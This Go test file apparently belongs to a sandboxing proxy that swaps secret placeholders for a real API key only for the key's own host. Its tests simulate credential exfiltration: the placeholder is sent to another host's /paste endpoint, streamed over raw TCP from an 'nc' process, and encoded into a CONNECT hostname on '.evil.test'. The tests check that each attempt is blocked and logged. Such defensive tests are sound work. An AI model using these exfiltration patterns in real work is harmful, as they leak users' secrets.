package proxy

import (
	"bufio"
	"crypto/subtle"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ebpfjail/ebpfjail/internal/rules"
	"github.com/ebpfjail/ebpfjail/internal/secrets"
	"github.com/ebpfjail/ebpfjail/internal/testutil"
	"github.com/ebpfjail/ebpfjail/internal/tlsca"
	"github.com/ebpfjail/ebpfjail/pkg/event"
)

const testRealKey = "sk-ant-api03-R3alKeyR3alKeyR3alKey0123456789-abcdefghijklmnopqrstuvwxyzAB"

// keyOrigin is an API that accepts only the real key, in any of the usual
// spellings, echoes it back on /echo and records what reached it.
type keyOrigin struct {
	srv  *httptest.Server
	mu   sync.Mutex
	seen []string // every header value, query and body it got
}

func (o *keyOrigin) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	o.mu.Lock()
	for _, vs := range r.Header {
		o.seen = append(o.seen, vs...)
	}
	o.seen = append(o.seen, r.URL.RawQuery, string(body))
	o.mu.Unlock()
	_, pass, _ := r.BasicAuth()
	for _, got := range []string{strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), r.Header.Get("X-Api-Key"), pass, r.URL.Query().Get("key"), string(body)} {
		if subtle.ConstantTimeCompare([]byte(got), []byte(testRealKey)) == 1 {
			if r.URL.Path == "/echo" {
				fmt.Fprintf(w, "invalid request for key %s, try again", testRealKey)
				return
			}
			fmt.Fprintf(w, "ok %s", r.Proto)
			return
		}
	}
	http.Error(w, "bad key", http.StatusUnauthorized)
}

// saw reports whether s reached the origin anywhere.
func (o *keyOrigin) saw(s string) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, v := range o.seen {
		if strings.Contains(v, s) {
			return true
		}
	}
	return false
}

// secretsMITM is a MITM proxy (see newMITM) with one secret, KEY, that
// belongs to example.com, and every event recorded; 127.0.0.1 is another
// host the rule allows.
type secretsMITM struct {
	*mitm
	ph     string
	mu     sync.Mutex
	events []event.Event
}

func newSecretsMITM(t *testing.T, h2 bool, inBody bool) (*secretsMITM, *keyOrigin) {
	t.Helper()
	o := &keyOrigin{}
	o.srv = httptest.NewUnstartedServer(o)
	o.srv.EnableHTTP2 = h2
	o.srv.StartTLS()
	t.Cleanup(o.srv.Close)
	set, err := secrets.New([]secrets.Spec{{Name: "KEY", Hosts: []string{"example.com"}, Value: []byte(testRealKey), InBody: inBody}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(set.Close)
	ca, err := tlsca.LoadOrCreate(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	s := &secretsMITM{mitm: &mitm{origin: netip.MustParseAddrPort(o.srv.Listener.Addr().String())}, ph: strings.TrimPrefix(set.Env()[0], "KEY=")}
	s.roots = x509.NewCertPool()
	s.roots.AddCert(ca.Certificate())
	k := &fakeKernel{}
	k.set(record{Dst: s.origin, PID: 42, Comm: "agent"}, true)
	s.p, err = Listen(Config{
		Logger: testutil.DiscardLogger(), OrigDst: k.OrigDst, CA: ca, Secrets: set,
		Rules:    ruleFunc(func(*rules.Request) rules.Verdict { return rules.Verdict{Allow: true, Reason: "rule"} }),
		RootCAs:  o.srv.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs,
		Resolver: &Resolver{Pins: map[string][]netip.Addr{"example.com": {s.origin.Addr()}}},
		Events:   func(e event.Event) { s.mu.Lock(); s.events = append(s.events, e); s.mu.Unlock() },
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.p.Close() })
	v4, _ := s.p.Ports()
	s.addr = netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), v4).String()
	return s, o
}

// misuses are the secret_misuse events so far.
func (s *secretsMITM) misuses() []event.Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	var m []event.Event
	for _, e := range s.events {
		if e.Type == event.TypeSecretMisuse {
			m = append(m, e)
		}
	}
	return m
}

// noRealValue fails if the real key is in any event.
func (s *secretsMITM) noRealValue(t *testing.T) {
	t.Helper()
	s.mu.Lock()
	defer s.mu.Unlock()
	if got := fmt.Sprintf("%+v", s.events); strings.Contains(got, testRealKey) {
		t.Errorf("an event holds the real value: %s", got)
	}
}

func (s *secretsMITM) do(t *testing.T, c *http.Client, method, url, body string, header ...string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(method, url, strings.NewReader(body))
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestSecretPlaceholderIsSwappedInEverySpellingForItsHost: an origin that
// accepts only the real key answers 200 to each spelling of the
// placeholder, over HTTP/1.1 and HTTP/2; the events hold no real value.
func TestSecretPlaceholderIsSwappedInEverySpellingForItsHost(t *testing.T) {
	for _, h2 := range []bool{false, true} {
		s, o := newSecretsMITM(t, h2, false)
		c := s.client(t, &tls.Config{RootCAs: s.roots}, h2)
		base := fmt.Sprintf("https://example.com:%d/v1/messages", s.origin.Port())
		basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+s.ph))
		for _, tc := range []struct{ name, url, header, value string }{
			{"bearer", base, "Authorization", "Bearer " + s.ph},
			{"x-api-key", base, "X-Api-Key", s.ph},
			{"basic", base, "Authorization", basic},
			{"query", base + "?key=" + url.QueryEscape(s.ph), "X-Other", "1"},
		} {
			status, body := s.do(t, c, "GET", tc.url, "", tc.header, tc.value)
			want := "ok HTTP/1.1"
			if h2 {
				want = "ok HTTP/2.0"
			}
			if status != http.StatusOK || body != want {
				t.Errorf("h2=%v %s: got %d %q, want 200 %q", h2, tc.name, status, body, want)
			}
		}
		if o.saw(s.ph) {
			t.Errorf("h2=%v: the origin saw the placeholder", h2)
		}
		if m := s.misuses(); len(m) != 0 {
			t.Errorf("h2=%v: misuse events %+v, want none", h2, m)
		}
		s.noRealValue(t)
	}
}

// TestSecretPlaceholderToAnotherAllowedHostIsDenied: the rule allows
// 127.0.0.1 too, but KEY belongs to example.com only: its placeholder in a
// header or a POST body to 127.0.0.1 gets 403 and a secret_misuse event
// naming the process, and never reaches the origin.
func TestSecretPlaceholderToAnotherAllowedHostIsDenied(t *testing.T) {
	for _, h2 := range []bool{false, true} {
		s, o := newSecretsMITM(t, h2, false)
		c := s.client(t, &tls.Config{RootCAs: s.roots}, h2)
		other := fmt.Sprintf("https://127.0.0.1:%d/paste", s.origin.Port())
		status, body := s.do(t, c, "GET", other, "", "X-Api-Key", s.ph)
		if status != http.StatusForbidden || !strings.Contains(body, "placeholder") {
			t.Errorf("h2=%v header to another host: got %d %q, want 403", h2, status, body)
		}
		big := strings.Repeat("lorem ipsum ", 10000) + "key=" + s.ph + "&more"
		status, _ = s.do(t, c, "POST", other, big, "Content-Type", "application/x-www-form-urlencoded")
		if status != http.StatusForbidden {
			t.Errorf("h2=%v POST body to another host: got %d, want 403", h2, status)
		}
		if o.saw(s.ph) || o.saw(testRealKey) {
			t.Errorf("h2=%v: the other host got the placeholder or the key", h2)
		}
		s.checkMisuses(t, "header:x-api-key", "body")
	}
}

// checkMisuses checks the secret_misuse events: one per where, in order,
// each of KEY by the agent to 127.0.0.1, and no real value anywhere.
func (s *secretsMITM) checkMisuses(t *testing.T, where ...string) {
	t.Helper()
	m := s.misuses()
	if len(m) != len(where) {
		t.Fatalf("misuse events: got %+v, want %v", m, where)
	}
	for i, e := range m {
		if e.Where != where[i] || e.Secret != "KEY" || e.PID != 42 || e.Comm != "agent" || e.Host != "127.0.0.1" || e.Verdict != event.Deny {
			t.Errorf("misuse event %+v: want KEY in %s, pid 42, comm agent, host 127.0.0.1, deny", e, where[i])
		}
	}
	s.noRealValue(t)
}

// TestSecretEchoedInAResponseReachesTheClientAsThePlaceholder.
func TestSecretEchoedInAResponseReachesTheClientAsThePlaceholder(t *testing.T) {
	s, _ := newSecretsMITM(t, false, false)
	c := s.client(t, &tls.Config{RootCAs: s.roots}, false)
	status, body := s.do(t, c, "GET", fmt.Sprintf("https://example.com:%d/echo", s.origin.Port()), "", "X-Api-Key", s.ph)
	if want := "invalid request for key " + s.ph + ", try again"; status != http.StatusOK || body != want {
		t.Errorf("got %d %q, want 200 %q", status, body, want)
	}
}

// TestSecretInBodyIsSwappedOnlyWhenAllowed: --secret-in-body swaps a POST
// body's placeholder for its host.
func TestSecretInBodyIsSwappedOnlyWhenAllowed(t *testing.T) {
	s, _ := newSecretsMITM(t, false, true)
	c := s.client(t, &tls.Config{RootCAs: s.roots}, false)
	status, body := s.do(t, c, "POST", fmt.Sprintf("https://example.com:%d/token", s.origin.Port()), s.ph)
	if status != http.StatusOK {
		t.Errorf("in-body: got %d %q, want 200", status, body)
	}
}

// TestSecretIsSwappedInAWebSocketUpgrade: the handshake's header carries
// the real key to the origin, which then speaks on the upgraded stream.
func TestSecretIsSwappedInAWebSocketUpgrade(t *testing.T) {
	s, o := newSecretsMITM(t, false, false)
	o.srv.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer "+testRealKey || r.Header.Get("Upgrade") != "websocket" {
			http.Error(w, "bad key", http.StatusUnauthorized)
			return
		}
		conn, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		rw.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nhello")
		rw.Flush()
	})
	conn, err := tls.Dial("tcp", s.addr, &tls.Config{RootCAs: s.roots, ServerName: "example.com", NextProtos: []string{"http/1.1"}})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "GET /ws HTTP/1.1\r\nHost: example.com:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer %s\r\n\r\n", s.origin.Port(), s.ph)
	br := bufio.NewReader(conn)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("upgrade: got %v, %v; want 101", resp, err)
	}
	if b, _ := io.ReadAll(br); string(b) != "hello" {
		t.Errorf("upgraded stream: got %q, want hello", b)
	}
}

// tcpSecretsProxy is a --tcp proxy with one secret, KEY, whose kernel
// says every connection went to dst; events records what it emits.
func tcpSecretsProxy(t *testing.T, dst netip.AddrPort) (p *Proxy, ph string, misuses func() []event.Event) {
	t.Helper()
	set, err := secrets.New([]secrets.Spec{{Name: "KEY", Hosts: []string{"example.com"}, Value: []byte(testRealKey)}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(set.Close)
	var mu sync.Mutex
	var events []event.Event
	k := &fakeKernel{}
	k.set(record{Dst: dst, PID: 7, Comm: "nc"}, true)
	p, err = Listen(Config{
		PeekTimeout: 300 * time.Millisecond, Logger: testutil.DiscardLogger(), OrigDst: k.OrigDst,
		Rules: rules.AllowAll(), TCP: true, Secrets: set,
		Events: func(e event.Event) { mu.Lock(); events = append(events, e); mu.Unlock() },
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	return p, strings.TrimPrefix(set.Env()[0], "KEY="), func() []event.Event {
		mu.Lock()
		defer mu.Unlock()
		var m []event.Event
		for _, e := range events {
			if e.Type == event.TypeSecretMisuse && e.Secret == "KEY" && e.PID == 7 {
				m = append(m, e)
			}
		}
		return m
	}
}

// TestSecretPlaceholderInATCPStreamEndsIt: under --tcp, a placeholder in
// the client's first bytes (split across writes) ends the connection
// before the rest of it goes upstream, with a secret_misuse event.
func TestSecretPlaceholderInATCPStreamEndsIt(t *testing.T) {
	got := make(chan string, 1)
	dst := rawOrigin(t, func(c net.Conn) {
		defer c.Close()
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		b, _ := io.ReadAll(c)
		got <- string(b)
	})
	p, ph, misuses := tcpSecretsProxy(t, dst)
	c := dialProxy(t, p)
	defer c.Close()
	io.WriteString(c, "\x00\x01AUTH "+ph[:20])
	time.Sleep(100 * time.Millisecond)
	io.WriteString(c, ph[20:]+"\r\nmore")
	if _, ended := endsWithin(c, 5*time.Second); !ended {
		t.Errorf("the connection was not ended")
	}
	if b := <-got; strings.Contains(b, ph) || strings.Contains(b, "more") {
		t.Errorf("the origin got %q, want neither the whole placeholder nor what followed", b)
	}
	if m := misuses(); len(m) != 1 || m[0].Where != "tcp" {
		t.Errorf("misuse events %+v: want one of KEY in tcp by pid 7", m)
	}
}

// TestSecretPlaceholderInAConnectHostIsRefused: a CONNECT tunnel to a name
// made of the placeholder (spliced under --tcp) is refused before the name
// is resolved or anything dialed.
func TestSecretPlaceholderInAConnectHostIsRefused(t *testing.T) {
	var dialed atomic.Int32
	dst := rawOrigin(t, func(c net.Conn) { dialed.Add(1); c.Close() })
	p, ph, misuses := tcpSecretsProxy(t, dst)
	name := strings.ToLower(strings.NewReplacer("-", "", "_", "").Replace(ph[len("sk-ant-api03-"):]))[:30] + ".evil.test"
	c := dialProxy(t, p)
	defer c.Close()
	fmt.Fprintf(c, "CONNECT %s:22 HTTP/1.1\r\nHost: %s:22\r\n\r\n", name, name)
	br := bufio.NewReader(c)
	if resp, err := http.ReadResponse(br, nil); err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("CONNECT: got %v, %v; want the tunnel opened", resp, err)
	}
	io.WriteString(c, "SSH-2.0-test\r\n")
	if _, ended := endsWithin(c, 5*time.Second); !ended {
		t.Errorf("the tunnel was not ended")
	}
	if m := misuses(); len(m) != 1 || m[0].Where != "host" || m[0].Host != name {
		t.Errorf("misuse events %+v: want one of KEY in host %s", m, name)
	}
	if dialed.Load() != 0 {
		t.Errorf("the origin was dialed")
	}
}
